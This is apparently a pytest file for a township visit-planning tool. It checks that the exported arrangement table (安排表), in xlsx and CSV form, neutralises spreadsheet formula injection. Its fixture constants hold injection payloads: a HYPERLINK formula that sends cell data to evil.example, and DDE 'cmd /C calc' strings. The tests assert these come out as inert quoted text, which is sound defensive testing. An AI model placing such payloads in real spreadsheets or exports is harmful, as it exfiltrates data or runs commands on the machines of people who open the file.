"""The arrangement table (安排表) holds no live formula, whatever the uploads and names say.

The township of ``tests/campaign/test_areas.py`` is imported through the ordinary
importers, with formula-shaped texts in the uploads (a cadre's name and unit, the name of
the registered poor household among the must-go targets) and in the campaign's name, then
planned, on SQLite and on PostgreSQL/PostGIS.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import select

from zoufang.campaign.areas import plan_campaign
from zoufang.campaign.arrangement import write_arrangement
from zoufang.campaign.imports.importer import import_cadres, import_grids, import_targets
from zoufang.campaign.phases import create_campaign
from zoufang.campaign.store import Store, Township
from zoufang.privacy import mask_name

from .imports.test_importer import CADRE_HEAD, HEAD, write_csv
from .test_areas import cadre_rows, grid_file, household_rows

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CADRE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
POOR_NAME = "-2+3+cmd|' /C calc'!A0"
CAMPAIGN = "=1+2大走访"


@pytest.fixture
def poisoned(store: Store, tmp_path: Path) -> Store:
    """The test township, planned, with formula-shaped texts in its uploads and campaign."""
    import_grids(store, grid_file(tmp_path / "grids.geojson"))
    rows = household_rows()
    assert rows[0][7] == "建档立卡户"
    rows[0][1] = POOR_NAME
    import_targets(store, write_csv(tmp_path / "targets.csv", rows, head=HEAD))
    cadres = cadre_rows()
    cadres[0][1], cadres[0][3] = CADRE_NAME, UNIT
    import_cadres(store, write_csv(tmp_path / "cadres.csv", cadres, head=CADRE_HEAD))
    with store.session() as s:
        town = s.scalars(select(Township)).one()
        create_campaign(s, town.id, CAMPAIGN, year=2024)
    plan_campaign(store, time_limit_s=10)
    return store


def formula_elements(path: Path) -> dict[str, int]:
    """Count the ``<f>`` (formula) elements of each sheet XML in the .xlsx at ``path``."""
    with zipfile.ZipFile(path) as z:
        return {n: len(re.findall(rb"<(?:\w+:)?f[\s>/]", z.read(n))) for n in z.namelist()
                if n.startswith("xl/worksheets/") and n.endswith(".xml")}


@pytest.mark.parametrize("masked", [False, True], ids=["planner", "public"])
def test_arrangement_xlsx_has_no_formula(poisoned: Store, tmp_path: Path,
                                         masked: bool) -> None:
    """No sheet of the 安排表 .xlsx holds a formula; the formula-shaped texts are text.

    Neither 安排表 nor 说明 has an ``<f>`` element or a cell read back as a formula; the
    cadre's name, unit and the title read back unchanged as quote-prefixed string cells,
    the poor household's name is intact (or masked) in 必到对象; the counts (户数) and
    hours stay numbers.
    """
    path = tmp_path / "安排表.xlsx"
    write_arrangement(poisoned, path, masked=masked)
    counts = formula_elements(path)
    assert len(counts) == 2 and sum(counts.values()) == 0, counts
    wb = openpyxl.load_workbook(path)
    texts = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.startswith(TRIGGERS):
                    assert c.data_type == "s" and c.quotePrefix, (ws.title, c.coordinate)
                    texts.add(c.value)
    assert {CADRE_NAME, UNIT, CAMPAIGN} <= texts, texts  # CAMPAIGN: 说明's 走访活动
    assert wb["安排表"]["A1"].value in texts  # the title starts with the campaign's name
    assert wb["安排表"]["A1"].value.startswith(CAMPAIGN + " 走访人员与走访区域安排表")
    ws = wb["安排表"]
    head = [c.value for c in ws[2]]
    row = next(r for r in ws.iter_rows(min_row=3) if r[head.index("人员编号")].value == "C1")
    assert row[head.index("走访人员")].value == CADRE_NAME
    mustgo = [r[head.index("必到对象")].value for r in ws.iter_rows(min_row=3)]
    poor = next(v for v in mustgo if "建档立卡户" in (v or ""))
    assert (mask_name(POOR_NAME) if masked else POOR_NAME) in poor
    for h in ("户数", "企业数", "工作量(小时)", "可用时间(小时)"):
        assert row[head.index(h)].data_type == "n", h
    assert dict(wb["说明"].iter_rows(min_row=2, values_only=True))["走访活动"] == CAMPAIGN


@pytest.mark.parametrize("masked", [False, True], ids=["planner", "public"])
def test_arrangement_csv_quotes_formula_text(poisoned: Store, tmp_path: Path,
                                             masked: bool) -> None:
    """In the 安排表 CSV the formula-shaped texts get a ``'`` in front; numbers stay bare.

    No field starts with ``=``, ``+``, ``-``, ``@``, tab or CR; the cadre's name and unit
    are there as ``'`` and their original characters; 序号 and 户数 are plain numbers.
    """
    path = tmp_path / "安排表.csv"
    write_arrangement(poisoned, path, masked=masked)
    with path.open(encoding="utf-8-sig", newline="") as f:
        got = list(csv.reader(f))
    assert all(not v.startswith(TRIGGERS) for r in got for v in r), got
    head = got[0]
    c1 = next(r for r in got[1:] if r[head.index("人员编号")] == "C1")
    assert c1[head.index("走访人员")] == "'" + CADRE_NAME
    assert c1[head.index("单位")] == "'" + UNIT
    assert all(r[head.index("序号")].isdigit() and r[head.index("户数")].isdigit()
               for r in got[1:])
